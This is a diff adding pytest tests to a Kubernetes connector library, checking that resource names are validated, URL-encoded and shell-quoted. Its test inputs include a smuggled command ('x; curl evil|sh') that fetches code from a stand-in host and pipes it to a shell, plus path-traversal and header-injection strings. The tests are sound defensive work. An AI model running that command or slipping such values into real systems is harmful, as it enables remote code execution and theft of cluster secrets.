@@ -9,10 +9,12 @@ from typing import Any
 
 import pytest
 
-from kubectl_connector.cluster import certificate_request, probe, token_request, vault
+from kubectl_connector.cli.manifests import removal
+from kubectl_connector.cluster import certificate_request, objects, probe, token_request, vault
 from kubectl_connector.cluster.caller import Caller, calling
 from kubectl_connector.cluster.transport import AuthenticatedPool
 from kubectl_connector.errors import ConnectorError
+from kubectl_connector.model.connector import Made
 from kubectl_connector.model.kubeconfig import Cluster, Impersonation
 from kubectl_connector.model.secret import Credential
 from kubectl_connector.model.service_account import ServiceAccount
@@ -92,3 +94,47 @@ def test_what_is_no_list_is_an_empty_one(server: ApiServer) -> None:
     pool = AuthenticatedPool(cluster, lambda: Credential(token=JANE_TOKEN))
     assert probe.probe(cluster, pool, 5).groups == ()
     pool.clear()
+
+
+@pytest.mark.parametrize("name", ["x; curl evil|sh", "../secrets", "a\r\nX: y", "A", "", 5, None])
+def test_a_certificate_request_has_a_name_that_a_command_can_hold(
+    server: ApiServer, name: object
+) -> None:
+    with pytest.raises(ConnectorError, match="without a name") as caught:
+        ask(server, 201, {"metadata": {"name": name}}, submit)
+    assert "evil" not in caught.value.message
+
+
+def submit(caller: Caller) -> str:
+    return certificate_request.submit(caller, "pem", None, "kubectl-connector-abc-")
+
+
+def test_a_name_stays_one_part_of_the_path(server: ApiServer) -> None:
+    made = Made("RoleBinding", "kubectl-connector:shop:reader:a?b#c", "shop", "uid")
+    ask(server, 200, {}, lambda caller: objects.remove(caller, made))
+    ask(server, 200, {"status": {}}, lambda caller: certificate_request.look(caller, "a/../b?c"))
+    deleted, shown = server.requests
+    assert deleted.target.endswith("/rolebindings/kubectl-connector:shop:reader:a%3Fb%23c")
+    assert shown.target.endswith("/certificatesigningrequests/a%2F..%2Fb%3Fc")
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        {"kind": "Pod", "name": "x"},
+        {"kind": "Secret", "name": "../../kube-system/secrets/x", "namespace": "shop"},
+        {"kind": "Secret", "name": "..", "namespace": "shop"},
+        {"kind": "Secret", "name": "x", "namespace": "../kube-system"},
+        {"kind": "ClusterRoleBinding", "name": "a\nb"},
+        {"kind": "Secret"},
+    ],
+)
+def test_what_was_not_made_by_us_is_not_read_as_such(document: dict[str, str]) -> None:
+    with pytest.raises((ValueError, TypeError)):
+        Made.from_document(document)
+
+
+def test_a_command_holds_any_name_of_a_role() -> None:
+    made = Made("RoleBinding", "kubectl-connector:shop:a:b?;c", "shop", "uid")
+    assert Made.from_document(made.to_document()) == made
+    assert removal([made]) == [f"kubectl delete rolebinding '{made.name}' -n shop"]
